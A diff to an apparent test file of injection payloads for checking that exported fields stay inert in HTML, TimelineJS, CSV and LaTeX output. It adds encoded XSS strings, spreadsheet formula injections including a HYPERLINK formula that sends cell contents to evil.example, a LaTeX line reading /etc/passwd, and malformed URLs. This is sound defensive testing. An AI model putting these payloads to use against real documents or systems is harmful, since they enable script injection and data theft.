@@ -67,7 +67,15 @@ PAYLOADS: list[str] = [
     "\\*escaped\\* \\<b\\> \\\\",
     # entities and odd characters
     "&lt;script&gt; &amp; &#x3C;script&#x3E; &#60;",
-    "caf\u00e9 \u202eright-to-left\u202c zero\u200bwidth non\u00a0breaking",
+    # markup a consumer decodes once before inserting it as HTML (TimelineJS's group and display_date)
+    "&lt;img src=x onerror=alert(document.domain)&gt;",
+    "&lt;img src=x onerror=window.__pwned=1&gt; &#60;svg onload=window.__pwned=1&#62;",
+    # spreadsheet formulas, also behind a separator of another CSV dialect, and LaTeX's specials
+    "Title;=1+2;",
+    "Gazette\t=3+4\tend",
+    "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\");-1+2,@SUM(A1);\"=3+4\"; '\uff1d5",
+    "\\input{/etc/passwd} \\def\\x{y} } { 100% $x$ #1 a_b ~ ^ -- `` '' !` ?`",
+    "caf\u00e9 zero\u200bwidth non\u00a0breaking",  # bidi controls are refused (text-bidi-control)
 ]
 
 
@@ -92,6 +100,18 @@ FIELDS = ([("source", f) for f in SOURCE_FIELDS] + [("actor", f) for f in ACTOR_
 NOT_SHOWN = {("source", "quotes[0].said.basis"), ("source", "events[0].note")}
 # A URL the validator accepts (http, a host, no spaces) but full of HTML: it must stay one inert href.
 HOSTILE_URL = "https://example.org/?q=<script>x</script>&a=\"b'onmouseover='y'><img/src=x>"
+# Addresses the validator accepts (http(s), a host, no white space) with each character some output
+# treats specially: LaTeX's and BibTeX's specials, braces that pair and braces that do not, backslashes.
+HOSTILE_URLS = [
+    HOSTILE_URL,
+    "https://example.org/a_b%20c#frag~x^y$z&q=1",
+    "https://example.org/{a}/{{b}c}?d={e}",
+    "https://example.org/}{",
+    "https://example.org/a\\{b}",
+    "https://example.org/end\\",
+    "https://example.org/?=1+2;=3+4,@x\"",
+    "https://example.org/%}\\%{",
+]
 
 
 def tag(index: int, kind: str, field: str) -> str:
